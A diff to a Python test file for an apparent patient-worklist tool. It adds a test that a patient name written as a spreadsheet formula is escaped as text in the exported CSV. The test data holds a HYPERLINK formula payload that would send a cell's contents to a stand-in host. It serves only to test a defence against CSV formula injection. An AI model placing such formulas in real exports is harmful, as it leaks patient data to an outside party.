@@ -11,7 +11,7 @@ import pytest
 from nacl.public import PrivateKey
 
 from openphm.practice.keys import generate_keypair, load_public_key
-from openphm.practice.worklist import make_worklist
+from openphm.practice.worklist import make_worklist, write_worklist
 from openphm.pseudonymise.tokens import seal_tokens
 
 PATIENTS = pd.DataFrame(
@@ -154,3 +154,15 @@ def test_a_downloaded_list_s_heading_is_skipped_and_carried_to_the_worklist(cli,
     rows = read_csv(out, ("nhs_number",), "worklist")
     assert list(rows["nhs_number"]) == ["9990000026"]
     assert list(rows["reasons"]) == ["aged 65 or over"]
+
+
+def test_a_name_that_is_a_formula_stays_text_in_the_written_worklist(ours, tmp_path):
+    patients = PATIENTS.assign(
+        given_name=['=HYPERLINK("https://example.org/?"&B2,"x")', "Bob", "Cy"]
+    )
+    tokens = seal_tokens(["R1", "R2"], ods_code="A81001", public_key=ours.public_key)
+    worklist = make_worklist(cohort_list(tokens), ours, patients, ods_code="A81001")
+    write_worklist(worklist, tmp_path / "worklist.csv")
+    written = pd.read_csv(tmp_path / "worklist.csv", dtype=str)
+    assert written["given_name"].tolist() == ["'" + patients["given_name"][0], "Bob"]
+    assert written["nhs_number"].tolist() == ["9990000018", "9990000026"]  # numbers untouched
